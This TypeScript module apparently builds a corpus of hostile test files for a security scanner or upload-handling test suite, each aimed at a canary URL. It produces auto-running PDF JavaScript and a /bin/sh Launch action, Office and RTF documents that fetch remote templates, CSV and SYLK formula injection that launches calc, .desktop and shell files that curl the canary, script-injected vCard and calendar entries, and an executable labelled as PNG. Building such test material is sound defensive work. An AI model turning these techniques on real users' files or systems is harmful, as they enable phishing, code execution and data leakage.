import { joined, zip } from './bytes.ts'
import { type Canary, type Hostile, file, plain } from './hostile.ts'

function pdf({ url, script }: Canary): Hostile[] {
  const acts = (action: string, more = '') =>
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction ${action}${more}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
  const runs = `<</S/JavaScript/JS(app.alert\\(1\\);${script.replaceAll(/[()\\]/g, String.raw`\$&`)})>>`
  return [
    file('script-open.pdf', 'application/pdf', acts(runs)),
    file('address.pdf', 'application/pdf', acts(`<</S/URI/URI(${url}/uri)>>`)),
    file(
      'form.pdf',
      'application/pdf',
      acts(`<</S/SubmitForm/F(${url}/form)>>`, `/AA<</WC ${runs}>>/AcroForm<</Fields[]>>`),
    ),
    file('program.pdf', 'application/pdf', acts('<</S/Launch/F(/bin/sh)>>')),
    file(
      'archive.pdf',
      'application/pdf',
      joined(acts(runs), zip({ name: 'a.html', bytes: `<script>${script}</script>` })),
    ),
    file('late.pdf', 'application/pdf', `${'\n'.repeat(900)}${acts(runs)}`, plain),
  ]
}

/** Documents that fetch something when they are opened, by the program for them. */
function office({ url }: Canary): Hostile[] {
  const relation = (type: string, target: string) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
  const kind = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
  const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${kind}.main+xml"/></Types>`
  const word = { name: 'word/document.xml', bytes: '<?xml version="1.0"?><w:document/>' }
  return [
    file(
      'template.docx',
      kind,
      zip({ name: '[Content_Types].xml', bytes: types }, word, {
        name: 'word/_rels/settings.xml.rels',
        bytes: relation('attachedTemplate', `${url}/template.dotm`),
      }),
    ),
    file(
      'picture.odt',
      'application/vnd.oasis.opendocument.text',
      zip(
        { name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text' },
        {
          name: 'content.xml',
          bytes: `<draw:image xlink:href="${url}/x" xlink:actuate="onLoad"/>`,
        },
      ),
    ),
    file(
      'letter.rtf',
      'application/rtf',
      String.raw`{\rtf1{\*\template ${url}/template}{\field{\*\fldinst INCLUDEPICTURE "${url}/x" \\d}}{\object\objautlink\objupdate{\*\objdata 01050000}}}`,
    ),
    file('table.csv', 'text/csv', `=cmd|'/C calc'!A0,=HYPERLINK("${url}/x")\n`, plain),
    file('table.slk', 'application/x-sylk', `ID;P\nC;X1;Y1;K0;EEXEC("calc")\nE\n`, plain),
  ]
}

/** Small texts by which systems go somewhere, or do something. */
function pointers({ url, script }: Canary): Hostile[] {
  return [
    file(
      'site.url',
      'application/x-url',
      `[InternetShortcut]\r\nURL=${url}/x\r\nIconFile=${url}/icon\r\n`,
      plain,
    ),
    file(
      'site.webloc',
      'application/xml',
      `<?xml version="1.0"?><plist><dict><key>URL</key><string>${url}/x</string></dict></plist>`,
    ),
    file(
      'site.desktop',
      'application/x-desktop',
      `[Desktop Entry]\nType=Application\nExec=sh -c "curl ${url}/x"\n`,
      plain,
    ),
    file(
      'site.scf',
      'application/x-scf',
      `[Shell]\r\nCommand=2\r\nIconFile=\\\\127.0.0.1\\x.ico\r\n`,
      plain,
    ),
    file(
      'site.lnk',
      'application/x-ms-shortcut',
      joined('L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46', '\0'.repeat(56)),
    ),
    file(
      'places.library-ms',
      'application/xml',
      `<?xml version="1.0"?><libraryDescription><searchConnectorDescription><simpleLocation><url>${url}</url></simpleLocation></searchConnectorDescription></libraryDescription>`,
    ),
    file(
      'start.jnlp',
      'application/x-java-jnlp-file',
      `<?xml version="1.0"?><jnlp codebase="${url}/" href="x"/>`,
    ),
    file(
      'list.m3u8',
      'application/vnd.apple.mpegurl',
      `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"\n#EXTINF:9,\n${url}/part.ts\n#EXT-X-ENDLIST\n`,
      plain,
    ),
    file(
      'card.vcf',
      'text/vcard',
      `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:<script>${script}</script>\r\nPHOTO:${url}/x\r\nEND:VCARD\r\n`,
    ),
    file(
      'meeting.ics',
      'text/calendar',
      `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:${url}/x\r\nX-ALT-DESC;FMTTYPE=text/html:<script>${script}</script>\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
    ),
    file('run.bat', 'application/x-bat', `@start ${url}/x\r\n`, plain),
    file('run.sh', 'application/x-sh', `#!/bin/sh\ncurl ${url}/x\n`, plain),
    file('setup.exe', 'image/png', joined('MZ', '\0'.repeat(200))),
  ]
}

export const documents = (canary: Canary): Hostile[] => [
  ...pdf(canary),
  ...office(canary),
  ...pointers(canary),
]
